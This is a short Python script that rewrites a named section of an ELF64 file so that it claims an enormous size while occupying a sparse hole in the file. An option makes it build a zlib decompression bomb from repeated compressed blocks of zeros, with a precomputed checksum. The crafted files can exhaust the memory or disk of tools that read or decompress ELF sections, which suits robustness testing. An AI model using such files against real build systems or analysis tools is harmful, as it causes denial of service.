#!/usr/bin/env python3
"""A section of an ELF64 file becomes huge, in a file that takes no room: huge.py IN OUT {+SECTION | -SECTION} SIZE...

+SECTION  its bytes, then zeros up to SIZE, in a hole of the file
-SECTION  the same, compressed
"""
import struct
import sys
import zlib

MIB = 1 << 20


def bomb(data, size):
    """ELF64_Chdr and a zlib stream of data and zeros; one compressed piece of zeros serves as often as needed."""
    z = zlib.compressobj(9)
    first = z.compress(data + bytes(-len(data) % MIB)) + z.flush(zlib.Z_FULL_FLUSH)
    zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = zeros.compress(bytes(MIB)) + zeros.flush(zlib.Z_FULL_FLUSH)
    size = max(size // MIB, 1) * MIB
    n = size // MIB - (len(data) + MIB - 1) // MIB
    sum_ = zlib.adler32(data + bytes(-len(data) % MIB))
    low, high = sum_ & 0xffff, sum_ >> 16
    high = (high + low * n * MIB) % 65521
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    return struct.pack("<IIQQ", 1, 0, size, 1) + first + piece * n + end + struct.pack(">II", 0, high << 16 | low)[4:]


file = bytearray(open(sys.argv[1], "rb").read())
holes = []
end = len(file)
for what, size in zip(sys.argv[3::2], sys.argv[4::2]):
    name, size = what[1:].encode(), int(size, 0)
    table, = struct.unpack_from("<Q", file, 40)
    count, names = struct.unpack_from("<HH", file, 60)
    text, = struct.unpack_from("<Q", file, table + names * 64 + 24)
    for at in range(table, table + count * 64, 64):
        start = text + struct.unpack_from("<I", file, at)[0]
        if file[start:file.index(0, start)] == name:
            break
    else:
        sys.exit("no section %s" % name)
    flags, _, off, old = struct.unpack_from("<QQQQ", file, at + 8)
    data = bytes(file[off:off + old])
    if what[0] == "-":
        data = bomb(data, size)
        size, flags = len(data), flags | 0x800
    end += -end % 4096
    holes.append((end, data))
    struct.pack_into("<Q", file, at + 8, flags)
    struct.pack_into("<QQ", file, at + 24, end, size)
    end += size
with open(sys.argv[2], "wb") as out:
    out.write(file)
    for at, data in holes:
        out.seek(at)
        out.write(data)
    out.truncate(end)
